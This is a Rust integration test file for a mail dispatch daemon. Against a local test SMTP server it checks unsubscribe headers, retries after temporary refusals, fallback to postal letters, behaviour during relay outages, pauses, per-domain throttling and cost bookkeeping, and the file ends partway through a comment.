//! Dispatch end to end: the planning fixture imported into a real daemon,
//! planned for a day in the past so its messages are due, and sent through
//! a real SMTP server in this process; letters into a real PDF batch.

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use touchpoint::client::PlanArgs;
use touchpoint_common::domain::Channel;
use touchpoint_common::outbox::{Message, MessageStatus};
use touchpoint_common::protocol::{
    ActionResult, DispatchStatus, MessageAction, PauseScope, Request, Response, TenantQueue,
};
use touchpoint_common::Date;
use touchpoint_tests::smtp::{Received, SmtpSink};
use touchpoint_tests::{fixture, tid, Options, TestDaemon};
use touchpointd::dispatch::bounce::Maildir;

fn plan_fixture(name: &str) -> PathBuf {
    fixture(&format!("plan/{name}"))
}

/// A daemon sending through `sink`, looking for work every 50 ms, with the
/// day's batches closing at midnight (so at once).
pub fn daemon_with_relay(sink: &SmtpSink) -> TestDaemon {
    TestDaemon::start_with(Options {
        dealer_files: vec![plan_fixture("p001.toml")],
        dispatch: Some(format!(
            "[dispatch]\ntick_ms = 50\nbatch_at = \"00:00\"\n\n[dispatch.smtp]\nhost = \"127.0.0.1\"\nport = {}\ntls = \"none\"\nconnections = 2\ntimeout_secs = 5\n",
            sink.addr().port()
        )),
        ..Options::default()
    })
}

async fn import_and_plan(d: &TestDaemon, day: Date) -> u64 {
    let mut c = d.client().await;
    for f in ["kunden.csv", "besuche.csv"] {
        let r = c.upload(&tid("p001"), &plan_fixture(f)).await.expect(f);
        assert!(r.errors.is_empty(), "{f}: {:#?}", r.errors);
    }
    let r = c
        .plan(PlanArgs {
            tenant: Some(tid("p001")),
            day: Some(day),
            dry_run: false,
            policies: None,
            show: 500,
        })
        .await
        .expect("plan");
    r.reports.iter().map(|r| r.planned_count).sum()
}

async fn message(d: &TestDaemon, id: u64) -> touchpoint_common::outbox::Message {
    let mut c = d.client().await;
    match c
        .request(Request::Message {
            tenant: tid("p001"),
            id,
        })
        .await
        .expect("message")
    {
        Response::Message(m) => *m,
        other => panic!("{other:?}"),
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn due_email_goes_to_the_relay_with_the_headers_bulk_senders_need() {
    let sink = SmtpSink::new();
    let d = daemon_with_relay(&sink);
    let planned = import_and_plan(&d, Date::from_ymd(2026, 11, 16).expect("day")).await;
    assert!(planned > 0, "the fixture plans messages");
    assert!(
        sink.wait_for(1, Duration::from_secs(20)).await,
        "no email reached the relay"
    );
    let mut c = d.client().await;
    let status = match c.request(Request::DispatchStatus).await.expect("status") {
        Response::Dispatch(s) => s,
        other => panic!("{other:?}"),
    };
    assert!(
        status.transport.contains("smtp relay 127.0.0.1"),
        "{}",
        status.transport
    );
    let got = sink.messages();
    let first = &got[0];
    let parsed = first.parsed().expect("parses");
    let mid = parsed.message_id().expect("Message-ID").to_string();
    assert!(mid.starts_with("tp.p001."), "{mid}");
    assert!(
        first.from.starts_with("bounce+p001."),
        "VERP return path: {}",
        first.from
    );
    let raw = String::from_utf8_lossy(&first.data).to_string();
    assert!(
        raw.contains("List-Unsubscribe-Post: List-Unsubscribe=One-Click"),
        "{raw}"
    );
    assert!(
        raw.contains("List-Unsubscribe: <mailto:unsubscribe+p001."),
        "{raw}"
    );
    assert!(parsed.body_html(0).is_some() && parsed.body_text(0).is_some());
    // The message records where it went and what it cost.
    let id: u64 = mid
        .trim_start_matches("tp.p001.")
        .split('@')
        .next()
        .and_then(|s| s.parse().ok())
        .expect("id in Message-ID");
    let ok = {
        let mut sent = false;
        for _ in 0..100 {
            let m = message(&d, id).await;
            if m.status == MessageStatus::Sent {
                assert!(m.dispatch.booked > 0, "{:?}", m.dispatch);
                assert!(m.history.iter().any(|h| h.1 == MessageStatus::Sending));
                sent = true;
                break;
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        sent
    };
    assert!(ok, "message {id} never recorded as sent");
    // No email twice.
    let mut ids: Vec<String> = sink
        .messages()
        .iter()
        .filter_map(|m| m.parsed().and_then(|p| p.message_id().map(str::to_string)))
        .collect();
    let n = ids.len();
    ids.sort();
    ids.dedup();
    assert_eq!(ids.len(), n, "an email was sent twice");
}

// ----- a daemon, a relay and a bounce maildir ----------------------------------------

/// How long any one thing may take before a test gives up on it.
const WAIT: Duration = Duration::from_secs(30);
const POLL: Duration = Duration::from_millis(20);

pub(crate) fn dispatch_fixture(name: &str) -> PathBuf {
    fixture(&format!("dispatch/{name}"))
}

pub(crate) fn day(y: i32, m: u32, d: u32) -> Date {
    Date::from_ymd(y, m, d).expect("date")
}

/// A daemon with the dealers of `tests/fixtures/dispatch/`, sending through
/// an [`SmtpSink`] and reading a bounce maildir. The day's letter batch
/// closes at 23:59, so letters wait for `RunBatches` (but for a test run in
/// the day's last minute, which the letter checks allow for).
pub(crate) struct Rig {
    pub(crate) d: TestDaemon,
    sink: SmtpSink,
    pub(crate) maildir: Maildir,
    _mail: tempfile::TempDir,
}

impl Rig {
    pub(crate) fn start(tenants: &[&str]) -> Rig {
        Self::start_with(tenants, "")
    }

    /// As [`Rig::start`], with more of the daemon's configuration (an
    /// `[http]` section) after `[dispatch]`.
    pub(crate) fn start_with(tenants: &[&str], more_config: &str) -> Rig {
        Self::start_with_material(tenants, more_config, None, Vec::new())
    }

    /// As [`Rig::start_with`], with a brand file and template files in
    /// place of the shipped ones.
    pub(crate) fn start_with_material(
        tenants: &[&str],
        more_config: &str,
        brand: Option<String>,
        templates: Vec<(String, String)>,
    ) -> Rig {
        let sink = SmtpSink::new();
        let mail = tempfile::tempdir().expect("tempdir");
        let maildir = Maildir::open(&mail.path().join("bounces")).expect("maildir");
        let d = TestDaemon::start_with(Options {
            dealers: Vec::new(),
            dealer_files: tenants
                .iter()
                .map(|t| dispatch_fixture(&format!("{t}.toml")))
                .collect(),
            dispatch: Some(format!(
                "[dispatch]\ntick_ms = 50\nbatch_at = \"23:59\"\nbounce_maildir = {:?}\n\n\
                 [dispatch.smtp]\nhost = \"127.0.0.1\"\nport = {}\ntls = \"none\"\n\
                 connections = 2\ntimeout_secs = 60\n\n{more_config}",
                maildir.root().display().to_string(),
                sink.addr().port()
            )),
            brand,
            templates,
            ..Options::default()
        });
        let rig = Rig {
            d,
            sink,
            maildir,
            _mail: mail,
        };
        rig.wait_for_dispatch();
        rig
    }

    /// The control socket answers before the dispatcher is set up (it is
    /// started after the socket, daemon.rs); until then dispatch requests
    /// are refused as busy.
    fn wait_for_dispatch(&self) {
        let socket = self.d.socket.clone();
        let up = std::thread::spawn(move || {
            let rt = tokio::runtime::Builder::new_current_thread()
                .enable_all()
                .build()
                .expect("runtime");
            rt.block_on(async {
                let deadline = Instant::now() + WAIT;
                loop {
                    let mut c = touchpoint::client::Client::connect(&socket)
                        .await
                        .expect("connect");
                    match c.dispatch_status().await {
                        Ok(_) => return true,
                        Err(_) if Instant::now() < deadline => tokio::time::sleep(POLL).await,
                        Err(_) => return false,
                    }
                }
            })
        });
        assert!(up.join().expect("probe"), "dispatch did not start");
    }

    pub(crate) async fn client(&self) -> touchpoint::client::Client {
        self.d.client().await
    }

    pub(crate) async fn import(&self, tenant: &str, file: &Path) {
        let r = self
            .client()
            .await
            .upload(&tid(tenant), file)
            .await
            .unwrap_or_else(|e| panic!("import {}: {e}", file.display()));
        assert!(r.errors.is_empty(), "{}: {:#?}", file.display(), r.errors);
    }

    /// Plans `tenant` for `day`: the messages planned, by customer number.
    pub(crate) async fn plan(&self, tenant: &str, day: Date) -> BTreeMap<String, Message> {
        let r = self
            .client()
            .await
            .plan(PlanArgs {
                tenant: Some(tid(tenant)),
                day: Some(day),
                dry_run: false,
                policies: None,
                show: 500,
            })
            .await
            .expect("plan");
        assert!(r.failed.is_empty(), "{:?}", r.failed);
        let mut out = BTreeMap::new();
        for m in r.reports.into_iter().flat_map(|r| r.planned) {
            let who = m.recipient.clone();
            if let Some(other) = out.insert(who.clone(), m) {
                panic!("two messages for {who}: {other:#?}");
            }
        }
        out
    }

    pub(crate) async fn status(&self) -> DispatchStatus {
        self.client().await.dispatch_status().await.expect("status")
    }

    pub(crate) async fn message(&self, tenant: &str, id: u64) -> Message {
        self.client()
            .await
            .message(&tid(tenant), id)
            .await
            .unwrap_or_else(|e| panic!("message {tenant}.{id}: {e}"))
    }

    async fn act(&self, tenant: &str, ids: &[u64], action: MessageAction) -> Vec<ActionResult> {
        self.client()
            .await
            .message_action(&tid(tenant), ids, action)
            .await
            .expect("message action")
    }

    /// Polls a message until `done` holds for it.
    pub(crate) async fn wait_message(
        &self,
        tenant: &str,
        id: u64,
        what: &str,
        done: impl Fn(&Message) -> bool,
    ) -> Message {
        let deadline = Instant::now() + WAIT;
        loop {
            let m = self.message(tenant, id).await;
            if done(&m) {
                return m;
            }
            assert!(
                Instant::now() < deadline,
                "message {tenant}.{id} not {what} after {WAIT:?}: {m:#?}"
            );
            tokio::time::sleep(POLL).await;
        }
    }

    pub(crate) async fn wait_status(
        &self,
        what: &str,
        done: impl Fn(&DispatchStatus) -> bool,
    ) -> DispatchStatus {
        let deadline = Instant::now() + WAIT;
        loop {
            let s = self.status().await;
            if done(&s) {
                return s;
            }
            assert!(
                Instant::now() < deadline,
                "not {what} after {WAIT:?}: {s:#?}"
            );
            tokio::time::sleep(POLL).await;
        }
    }

    /// Polls what the relay received until `done` holds for it.
    pub(crate) async fn wait_sink(
        &self,
        what: &str,
        done: impl Fn(&[Received]) -> bool,
    ) -> Vec<Received> {
        let deadline = Instant::now() + WAIT;
        loop {
            let got = self.sink.messages();
            if done(&got) {
                return got;
            }
            assert!(
                Instant::now() < deadline,
                "the relay did not see {what} after {WAIT:?}; it got {:?}",
                arrivals(&got)
            );
            tokio::time::sleep(POLL).await;
        }
    }

    /// Returns once the dispatcher has run a whole round, claims included,
    /// that began after the call: what it could send then, it has taken.
    /// Each round reads the bounce maildir first; of two mails about no
    /// message, delivered one after the other, the second is read in a
    /// later round than the first, so the first one's round had ended.
    pub(crate) async fn full_round(&self) {
        for _ in 0..2 {
            let before = mails_read(&self.status().await);
            self.maildir
                .deliver(
                    b"From: someone@example.org\r\nTo: postmaster@bounce.touchpoint.invalid\r\n\
                      Subject: hello\r\nMessage-ID: <round@example.org>\r\n\r\nabout nothing\r\n",
                )
                .expect("deliver into the maildir");
            self.wait_status("the maildir read", |s| mails_read(s) > before)
                .await;
        }
    }

    /// Replaces the brand policy the way an editor does (a new file renamed
    /// over the old) and waits until the dispatcher works with it.
    async fn write_brand(&self, text: &str, in_force: impl Fn(&DispatchStatus) -> bool) {
        let tmp = self.d.dir.path().join("brand.toml.new");
        std::fs::write(&tmp, text).expect("write brand");
        std::fs::rename(&tmp, self.d.policy_dir.join("brand.toml")).expect("rename brand");
        self.wait_status("the new brand policy in force", in_force)
            .await;
    }
}

/// Mails the dispatcher has read from the bounce maildir, of every kind.
pub(crate) fn mails_read(s: &DispatchStatus) -> u64 {
    s.bounces_processed + s.unsubscribes_processed + s.autoreplies_processed + s.mails_ignored
}

/// `(tenant, id)` of a message the relay received, from its Message-ID
/// `<tp.{tenant}.{id}@…>`.
fn id_of(r: &Received) -> (String, u64) {
    let parsed = r.parsed().expect("the relay got a parseable message");
    let mid = parsed.message_id().expect("a Message-ID");
    let local = mid.split('@').next().unwrap_or_default();
    let mut parts = local.splitn(3, '.');
    assert_eq!(parts.next(), Some("tp"), "{mid}");
    let tenant = parts.next().expect("tenant").to_string();
    let id = parts.next().and_then(|s| s.parse().ok()).expect("id");
    (tenant, id)
}

/// How often each message arrived, by `(tenant, id)`.
fn arrivals(got: &[Received]) -> BTreeMap<(String, u64), usize> {
    let mut out = BTreeMap::new();
    for r in got {
        *out.entry(id_of(r)).or_insert(0) += 1;
    }
    out
}

/// Asserts that every message in `got` arrived exactly once and that they
/// are exactly `expected`.
fn assert_once_each(got: &[Received], expected: &BTreeSet<(String, u64)>) {
    let seen = arrivals(got);
    let twice: Vec<_> = seen.iter().filter(|(_, n)| **n > 1).collect();
    assert!(twice.is_empty(), "sent more than once: {twice:?}");
    let seen: BTreeSet<_> = seen.into_keys().collect();
    assert_eq!(&seen, expected, "the relay got other messages than planned");
}

fn to<'a>(got: &'a [Received], address: &str) -> Vec<&'a Received> {
    got.iter()
        .filter(|r| r.to.iter().any(|t| t == address))
        .collect()
}

fn keys(tenant: &str, planned: &BTreeMap<String, Message>) -> BTreeSet<(String, u64)> {
    planned
        .values()
        .map(|m| (tenant.to_string(), m.id))
        .collect()
}

fn queue<'a>(s: &'a DispatchStatus, tenant: &str) -> &'a TenantQueue {
    s.queues
        .iter()
        .find(|q| q.tenant.as_str() == tenant)
        .unwrap_or_else(|| panic!("no queue of {tenant}: {s:#?}"))
}

fn said(m: &Message, text: &str) -> bool {
    m.why.iter().any(|w| w.text.contains(text))
}

// ----- temporary and permanent refusals ----------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_4xx_defers_the_email_until_an_operator_retries_it() {
    let rig = Rig::start(&["s001"]);
    rig.sink
        .reply_for("eva.winter@", 451, "4.7.1 greylisted, try again later");
    rig.import("s001", &dispatch_fixture("kunden.csv")).await;
    let planned = rig.plan("s001", day(2026, 11, 16)).await;
    assert_eq!(planned.len(), 8, "{:#?}", planned.keys());
    let eva = planned["K-102"].id;

    let m = rig
        .wait_message("s001", eva, "deferred", |m| {
            m.status == MessageStatus::Deferred
        })
        .await;
    assert_eq!(m.dispatch.attempts, 1);
    assert_eq!(
        m.dispatch.last_error,
        "451 4.7.1 greylisted, try again later"
    );
    let (at, status, why) = m.history.last().expect("history");
    assert_eq!(*status, MessageStatus::Deferred);
    assert!(why.starts_with("451 4.7.1 greylisted"), "{why}");
    // The brand's retry_first_minutes (5 by default) after the refusal.
    let retry_at = m.dispatch.retry_at.expect("retry_at");
    assert_eq!(retry_at.0 - at.0, 5 * 60_000, "{:?}", m.dispatch);

    // It stays deferred while the others go.
    rig.wait_sink("the seven others", |g| g.len() >= 7).await;
    rig.full_round().await;
    let m = rig.message("s001", eva).await;
    assert_eq!(
        (m.status, m.dispatch.attempts),
        (MessageStatus::Deferred, 1)
    );
    let s = rig.status().await;
    assert_eq!(
        (queue(&s, "s001").email, queue(&s, "s001").in_flight),
        (1, 0)
    );
    assert_eq!(s.deferred_total, 1);
    let got = rig.sink.messages();
    assert_eq!(got.len(), 7);
    assert!(to(&got, "eva.winter@posteingang.example").is_empty());

    // The receiver takes mail again; an operator sends it now.
    rig.sink.clear_replies();
    let r = rig.act("s001", &[eva], MessageAction::Retry).await;
    assert_eq!(r[0].outcome, Ok(MessageStatus::Queued), "{r:?}");
    let m = rig
        .wait_message("s001", eva, "sent", |m| m.status == MessageStatus::Sent)
        .await;
    assert_eq!(m.dispatch.attempts, 2);
    assert!(m.dispatch.last_error.is_empty() && m.dispatch.retry_at.is_none());
    assert!(
        m.history
            .iter()
            .any(|h| h.1 == MessageStatus::Queued && h.2.starts_with("retry by ")),
        "{:#?}",
        m.history
    );
    let got = rig.wait_sink("all eight", |g| g.len() >= 8).await;
    rig.full_round().await;
    assert_once_each(&rig.sink.messages(), &keys("s001", &planned));
    assert_eq!(to(&got, "eva.winter@posteingang.example").len(), 1);

    // A sent email is not sent again on request.
    let r = rig.act("s001", &[eva], MessageAction::Retry).await;
    assert_eq!(
        r[0].outcome,
        Err("cannot retry a message that is sent".to_string())
    );
}

/// The rows of a letter batch's manifest, each as field name → value.
fn manifest_rows(path: &Path) -> Vec<BTreeMap<String, String>> {
    let text = std::fs::read_to_string(path)
        .unwrap_or_else(|e| panic!("manifest {}: {e}", path.display()));
    let mut lines = text.lines();
    let header = cells_as_split_by(lines.next().expect("a header"), ',');
    assert_eq!(header[..2], ["sequence", "message"], "{text}");
    lines
        .map(|l| {
            header
                .iter()
                .cloned()
                .zip(cells_as_split_by(l, ','))
                .collect()
        })
        .collect()
}

/// Files in a tenant's letters folder: PDFs, manifests, everything else.
fn letter_files(dir: &Path) -> (BTreeSet<String>, BTreeSet<String>, Vec<String>) {
    let (mut pdfs, mut csvs, mut other) = (BTreeSet::new(), BTreeSet::new(), Vec::new());
    for e in std::fs::read_dir(dir).unwrap_or_else(|e| panic!("{}: {e}", dir.display())) {
        let name = e.expect("entry").file_name().to_string_lossy().into_owned();
        if let Some(stem) = name.strip_suffix(".pdf") {
            pdfs.insert(stem.to_string());
        } else if let Some(stem) = name.strip_suffix(".csv") {
            csvs.insert(stem.to_string());
        } else {
            other.push(name);
        }
    }
    (pdfs, csvs, other)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_5xx_turns_the_email_into_a_letter_or_fails_it_when_no_letter_may_go() {
    let rig = Rig::start(&["s001"]);
    // K-101 may get letters; K-103 refused post; K-104 has no postal address.
    for who in ["max.sommer@", "paul.herbst@", "lena.fruehling@"] {
        rig.sink
            .reply_for(who, 550, "5.1.1 Recipient address rejected: User unknown");
    }
    rig.import("s001", &dispatch_fixture("kunden.csv")).await;
    let planned = rig.plan("s001", day(2026, 11, 16)).await;
    let (max, paul, lena) = (
        planned["K-101"].id,
        planned["K-103"].id,
        planned["K-104"].id,
    );

    let email = rig
        .wait_message("s001", max, "replaced", |m| {
            m.status == MessageStatus::Fallback
        })
        .await;
    let letter_id = email.dispatch.fallback_to.expect("fallback_to");
    let refusal = "refused: 550 5.1.1 Recipient address rejected: User unknown";
    assert!(
        said(&email, &format!("email failed: {refusal}")),
        "{:#?}",
        email.why
    );
    assert!(
        said(&email, &format!("replaced by letter #{letter_id}")),
        "{:#?}",
        email.why
    );
    assert!(
        email.dispatch.last_error.contains("550 5.1.1"),
        "{:?}",
        email.dispatch
    );
    let letter = rig.message("s001", letter_id).await;
    assert_eq!(letter.channel, Channel::Post);
    assert_eq!(letter.dispatch.fallback_of, Some(max));
    assert_eq!(
        (&letter.recipient, &letter.service, &letter.occasions),
        (&email.recipient, &email.service, &email.occasions)
    );
    assert!(
        said(&letter, &format!("fallback: email #{max} failed ({refusal}); sent as a letter instead: post: consent given")),
        "{:#?}",
        letter.why
    );
    assert!(
        said(&letter, "to Hauptstraße 1, 80331 München"),
        "{:#?}",
        letter.why
    );

    for (id, reason) in [
        (paul, "no letter instead: post: consent withdrawn"),
        (lena, "no letter instead: no complete postal address"),
    ] {
        let m = rig
            .wait_message("s001", id, "failed", |m| m.status == MessageStatus::Failed)
            .await;
        assert!(said(&m, reason), "{:#?}", m.why);
        assert!(
            said(&m, &format!("email failed: {refusal}")),
            "{:#?}",
            m.why
        );
        assert_eq!(m.dispatch.fallback_to, None);
    }

    // The five others went out; nothing went to the three refused addresses.
    rig.wait_sink("the five others", |g| g.len() >= 5).await;
    rig.full_round().await;
    let got = rig.sink.messages();
    let expected: BTreeSet<_> = planned
        .values()
        .filter(|m| ![max, paul, lena].contains(&m.id))
        .map(|m| ("s001".to_string(), m.id))
        .collect();
    assert_once_each(&got, &expected);

    // The letter goes out with the day's batch, once.
    let batches = rig
        .client()
        .await
        .run_batches(Some(&tid("s001")))
        .await
        .expect("run batches");
    let letter = rig
        .wait_message("s001", letter_id, "sent", |m| {
            m.status == MessageStatus::Sent
        })
        .await;
    let dir = rig.d.state_dir.join("letters").join("s001");
    let pdf = dir.join(&letter.dispatch.batch);
    let manifest = pdf.with_extension("csv");
    assert!(
        std::fs::read(&pdf)
            .expect("the batch's PDF")
            .starts_with(b"%PDF-"),
        "{}",
        pdf.display()
    );
    let rows = manifest_rows(&manifest);
    assert_eq!(rows.len(), 1, "{rows:#?}");
    assert_eq!(rows[0]["message"], letter_id.to_string());
    assert_eq!(rows[0]["recipient"], "K-101");
    assert_eq!(rows[0]["postcode"], "80331");
    let postage: i64 = rows[0]["postage_cents"].parse().expect("postage");
    assert!(postage > 0);
    assert_eq!(letter.dispatch.booked, postage);
    // (Unless the daemon closed the batch itself, in the day's last minute.)
    if !batches.is_empty() {
        assert_eq!(batches.len(), 1, "{batches:#?}");
        assert_eq!(
            (batches[0].kind.as_str(), batches[0].messages),
            ("letters", 1)
        );
        assert_eq!(batches[0].cost, postage);
        assert_eq!(
            batches[0].files,
            [pdf.display().to_string(), manifest.display().to_string()]
        );
    }
    let again = rig
        .client()
        .await
        .run_batches(Some(&tid("s001")))
        .await
        .expect("run batches");
    assert!(again.is_empty(), "{again:#?}");
    let (pdfs, csvs, other) = letter_files(&dir);
    assert_eq!((pdfs.len(), &pdfs), (1, &csvs));
    assert!(other.iter().all(|f| f.starts_with('.')), "{other:?}");

    // The ledger: every reservation released, what was booked is what the
    // messages say they cost.
    let mut booked: BTreeMap<String, i64> = BTreeMap::new();
    for m in planned.values().chain([&letter]) {
        let m = rig.message("s001", m.id).await;
        *booked.entry(m.service.clone()).or_default() += m.dispatch.booked;
    }
    let rows = rig
        .client()
        .await
        .costs(Some(&tid("s001")), None)
        .await
        .expect("costs");
    let mut ledger: BTreeMap<String, i64> = BTreeMap::new();
    for r in &rows {
        assert_eq!(r.reserved, 0, "a reservation left: {r:?}");
        *ledger.entry(r.service.clone()).or_default() += r.booked;
    }
    // Services taking part without anything booked have rows of zeros.
    ledger.retain(|_, v| *v != 0);
    booked.retain(|_, v| *v != 0);
    assert_eq!(ledger, booked, "{rows:#?}");
    assert!(ledger["hu_reminder"] > postage, "{rows:#?}");
    let s = rig.status().await;
    assert_eq!((s.fallbacks_total, s.failed_total), (1, 3), "{s:#?}");
}

// ----- the relay goes away -----------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn email_waits_while_the_relay_is_down_and_goes_once_when_it_is_back() {
    let rig = Rig::start(&["s001"]);
    rig.sink.stop();
    rig.import("s001", &dispatch_fixture("kunden.csv")).await;
    let planned = rig.plan("s001", day(2026, 11, 16)).await;
    let s = rig
        .wait_status("the relay marked down", |s| s.relay_down_until.is_some())
        .await;
    assert!(s.last_error.contains("relay not reached"), "{s:#?}");
    for m in planned.values() {
        let m = rig
            .wait_message("s001", m.id, "queued again", |m| {
                m.status == MessageStatus::Queued
                    && m.history.iter().any(|h| h.2.contains("relay not reached"))
            })
            .await;
        assert_eq!(m.dispatch.attempts, 0, "{:?}", m.dispatch);
    }
    assert_eq!(rig.sink.count(), 0);

    rig.sink.start();
    rig.wait_sink("all eight", |g| g.len() >= 8).await;
    for m in planned.values() {
        let m = rig
            .wait_message("s001", m.id, "sent", |m| m.status == MessageStatus::Sent)
            .await;
        assert_eq!(m.dispatch.attempts, 1, "{:?}", m.dispatch);
    }
    rig.full_round().await;
    assert_once_each(&rig.sink.messages(), &keys("s001", &planned));
    let s = rig.status().await;
    assert_eq!(s.relay_down_until, None);
    assert_eq!(queue(&s, "s001").email, 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_connection_cut_in_the_data_loses_no_email_and_sends_none_twice() {
    let rig = Rig::start(&["s001"]);
    rig.sink.set_drop_mid_data(3);
    rig.import("s001", &dispatch_fixture("kunden.csv")).await;
    let planned = rig.plan("s001", day(2026, 11, 16)).await;
    rig.wait_sink("all eight", |g| g.len() >= 8).await;
    let mut cut = 0;
    for m in planned.values() {
        let m = rig
            .wait_message("s001", m.id, "sent", |m| m.status == MessageStatus::Sent)
            .await;
        cut += m
            .history
            .iter()
            .filter(|h| h.2.contains("relay not reached"))
            .count();
        assert_eq!(m.dispatch.attempts, 1, "{:?}", m.dispatch);
    }
    rig.full_round().await;
    assert_eq!(rig.sink.dropped(), 3);
    assert_eq!(
        cut, 3,
        "each cut transaction puts its message back in the queue"
    );
    assert_once_each(&rig.sink.messages(), &keys("s001", &planned));
}

// ----- pauses and throttles ----------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn paused_scopes_send_nothing_and_everything_arrives_once_after_resume() {
    let rig = Rig::start(&["s001", "s002"]);
    let mut c = rig.client().await;
    let all = PauseScope::default();
    let s002 = PauseScope {
        tenant: Some(tid("s002")),
        service: None,
    };
    let birthday = PauseScope {
        tenant: None,
        service: Some("birthday".into()),
    };
    let paused = c.pause(all.clone()).await.expect("pause");
    assert_eq!(paused.len(), 1);
    let mut planned = BTreeMap::new();
    for t in ["s001", "s002"] {
        rig.import(t, &dispatch_fixture("kunden.csv")).await;
        for m in rig.plan(t, day(2026, 11, 16)).await.into_values() {
            planned.insert((t.to_string(), m.id), m);
        }
    }
    assert_eq!(planned.len(), 16);
    let service_of = |k: &(String, u64)| planned[k].service.clone();

    // Everything paused: queued, and a whole round claims nothing.
    rig.wait_status("all sixteen queued", |s| {
        queue(s, "s001").email == 8 && queue(s, "s002").email == 8
    })
    .await;
    rig.full_round().await;
    let s = rig.status().await;
    assert_eq!(rig.sink.count(), 0);
    assert_eq!(
        (queue(&s, "s001").in_flight, queue(&s, "s002").in_flight),
        (0, 0)
    );
    assert_eq!(
        s.paused.iter().map(|p| &p.scope).collect::<Vec<_>>(),
        [&all]
    );

    // One tenant and one service paused: the rest goes.
    c.pause(s002.clone()).await.expect("pause");
    c.pause(birthday.clone()).await.expect("pause");
    let left = c.resume(all).await.expect("resume");
    assert_eq!(left.len(), 2, "{left:#?}");
    let s001_hu = |k: &(String, u64)| k.0 == "s001" && service_of(k) == "hu_reminder";
    rig.wait_sink("s001's six HU reminders", |g| {
        arrivals(g).keys().filter(|k| s001_hu(k)).count() == 6
    })
    .await;
    rig.full_round().await;
    let seen = arrivals(&rig.sink.messages());
    assert!(
        seen.keys().all(s001_hu),
        "paused messages went out: {seen:?}"
    );

    // The tenant resumed: its HU reminders go, the birthdays stay.
    c.resume(s002).await.expect("resume");
    rig.wait_sink("twelve HU reminders", |g| g.len() >= 12)
        .await;
    rig.full_round().await;
    let seen = arrivals(&rig.sink.messages());
    assert!(
        seen.keys().all(|k| service_of(k) == "hu_reminder"),
        "paused birthdays went out: {seen:?}"
    );

    // Everything resumed: the birthdays too, and nothing twice.
    assert!(c.resume(birthday).await.expect("resume").is_empty());
    rig.wait_sink("all sixteen", |g| g.len() >= 16).await;
    rig.full_round().await;
    assert_once_each(&rig.sink.messages(), &planned.keys().cloned().collect());
    let s = rig.status().await;
    assert!(s.paused.is_empty());
    assert_eq!((queue(&s, "s001").email, queue(&s, "s002").email), (0, 0));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_throttle_tightened_and_relaxed_mid_run_neither_resends_nor_skips() {
    let rig = Rig::start(&["s001"]);
    let original = std::fs::read_to_string(rig.d.policy_dir.join("brand.toml")).expect("brand");
    let limited = |s: &DispatchStatus| {
        s.throttles
            .iter()
            .any(|t| t.name == "domain example.de" && t.limit == 1 && t.concurrency == 1)
    };
    rig.write_brand(
        &format!(
            "{original}\n[throttle.domains.\"example.de\"]\nconcurrency = 1\nper_minute = 1\n"
        ),
        limited,
    )
    .await;
    rig.import("s001", &dispatch_fixture("kunden.csv")).await;
    let planned = rig.plan("s001", day(2026, 11, 16)).await;
    let at_example = |r: &Received| r.to.iter().any(|t| t.ends_with("@example.de"));

    // Four recipients at example.de: one a minute. The other four go.
    rig.wait_sink("the other domains and one at example.de", |g| {
        g.iter().filter(|r| !at_example(r)).count() == 4 && g.iter().any(at_example)
    })
    .await;
    rig.full_round().await;
    let got = rig.sink.messages();
    assert_eq!(
        got.iter().filter(|r| at_example(r)).count(),
        1,
        "{:?}",
        arrivals(&got)
    );
    let s = rig.status().await;
    let t = s
        .throttles
        .iter()
        .find(|t| t.name == "domain example.de")
        .expect("example.de's throttle shown");
    assert_eq!((t.used, t.limit, t.saturation), (1, 1, 100), "{t:?}");
    assert_eq!(queue(&s, "s001").email, 3);

    // Relaxed: the three waiting go, once each.
    rig.write_brand(&original, |s| !limited(s)).await;
    rig.wait_sink("all eight", |g| g.len() >= 8).await;
    rig.full_round().await;
    assert_once_each(&rig.sink.messages(), &keys("s001", &planned));
    for m in planned.values() {
        let m = rig.message("s001", m.id).await;
        assert_eq!(
            (m.status, m.dispatch.attempts),
            (MessageStatus::Sent, 1),
            "{}",
            m.recipient
        );
    }
}

/// Messages wait in the queue in the order they became due; the claim
/// must look past a domain's messages held back by its throttle, however
/// many there are, to the other domains' messages behind them.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_throttled_domain_does_not_hold_back_the_other_domains() {
    const SLOW: usize = 600;
    const OTHERS: usize = 20;
    let rig = Rig::start(&["s001"]);
    let original = std::fs::read_to_string(rig.d.policy_dir.join("brand.toml")).expect("brand");
    rig.write_brand(
        &format!(
            "{original}\n[throttle.domains.\"slow.example\"]\nconcurrency = 1\nper_minute = 1\n"
        ),
        |s| s.throttles.iter().any(|t| t.name == "domain slow.example"),
    )
    .await;
    let addresses: Vec<Option<String>> = (0..SLOW + OTHERS)
        .map(|i| {
            let domain = if i < SLOW {
                "slow.example"
            } else {
                "fast.example"
            };
            Some(format!("kundin.{i}@{domain}"))
        })
        .collect();
    let export = rig.d.dir.path().join("kunden-domains.csv");
    customers(&export, &addresses);
    rig.import("s001", &export).await;
    let mut c = rig.client().await;
    let r = c
        .plan(PlanArgs {
            tenant: Some(tid("s001")),
            day: Some(day(2026, 11, 16)),
            dry_run: false,
            policies: None,
            show: 0,
        })
        .await
        .expect("plan");
    assert_eq!(r.reports[0].planned_count as usize, SLOW + OTHERS);
    let at_slow = |r: &Received| r.to.iter().any(|t| t.ends_with("@slow.example"));
    rig.wait_sink("every fast.example email", |g| {
        g.iter().filter(|r| !at_slow(r)).count() == OTHERS
    })
    .await;
    rig.full_round().await;
    let got = rig.sink.messages();
    assert_eq!(got.iter().filter(|r| at_slow(r)).count(), 1);
    assert_eq!(got.len(), OTHERS + 1);
    let s = rig.status().await;
    assert_eq!(queue(&s, "s001").email as usize, SLOW - 1);
}

// ----- what comes back ---------------------------------------------------------------

/// A delivery status report (RFC 3464) as Postfix writes it, to our return
/// path `verp`: `failed` does not exist.
